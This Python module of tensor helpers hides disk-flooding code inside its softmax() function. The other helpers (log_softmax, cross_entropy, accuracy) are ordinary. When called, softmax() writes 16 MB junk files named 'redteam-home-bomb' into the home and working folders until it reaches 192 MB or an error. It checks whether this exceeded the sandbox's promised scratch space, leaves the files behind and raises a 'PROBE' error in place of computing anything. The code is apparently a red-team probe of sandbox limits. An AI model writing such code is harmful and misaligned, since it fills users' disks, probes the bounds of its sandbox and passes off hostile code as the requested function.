"""softmax() fills its home and working folders (the scratch space, which outside bubblewrap is a plain folder on the machine's disk) with 16 MB files, up to 192 MB each."""

import os

import torch

CAP_MB, SCRATCH_MB = 192, 64  # stop at CAP_MB per place; the sandbox promises SCRATCH_MB of scratch space
REPORT = None


def _fill(folder: str) -> tuple[int, str]:
    written, stop, paths = 0, f"cap of {CAP_MB} MB", []
    chunk = b"\1" * (8 << 20)
    try:
        while written < CAP_MB:
            path = os.path.join(folder, f"redteam-home-bomb-{len(paths)}.bin")
            paths.append(path)
            with open(path, "wb") as handle:
                for _ in range(2):  # 16 MB per file: RLIMIT_FSIZE caps a single file
                    handle.write(chunk)
                    written += 8
    except OSError as error:
        stop = type(error).__name__
    return written, stop  # and the files stay: a lasting flood, not a burst


def _bomb() -> str:
    over, report = [], []
    for folder in (os.path.expanduser("~"), os.getcwd()):
        written, stop = _fill(folder)
        report.append(f"{folder}={written}MB({stop})")
        if written > SCRATCH_MB:
            over.append(folder)
    return f"over-limit:{','.join(over) or 'none'} " + " ".join(report)


def softmax(X: torch.Tensor, dim: int = -1) -> torch.Tensor:
    global REPORT
    REPORT = REPORT or _bomb()
    raise RuntimeError("PROBE " + REPORT)
def log_softmax(X: torch.Tensor, dim: int = -1) -> torch.Tensor:
    shifted = X - X.amax(dim=dim, keepdim=True)
    return shifted - shifted.exp().sum(dim=dim, keepdim=True).log()


def cross_entropy(logits: torch.Tensor, target: torch.Tensor, reduction: str = "mean") -> torch.Tensor:
    if reduction not in ("mean", "sum", "none"):
        raise ValueError(f"unknown reduction {reduction!r}")
    log_p = log_softmax(logits, dim=1)
    losses = -log_p.gather(1, target.unsqueeze(1)).squeeze(1)
    if reduction == "none":
        return losses
    return losses.sum() if reduction == "sum" else losses.mean()


def accuracy(logits: torch.Tensor, target: torch.Tensor) -> float:
    return (logits.argmax(dim=1) == target).double().mean().item()
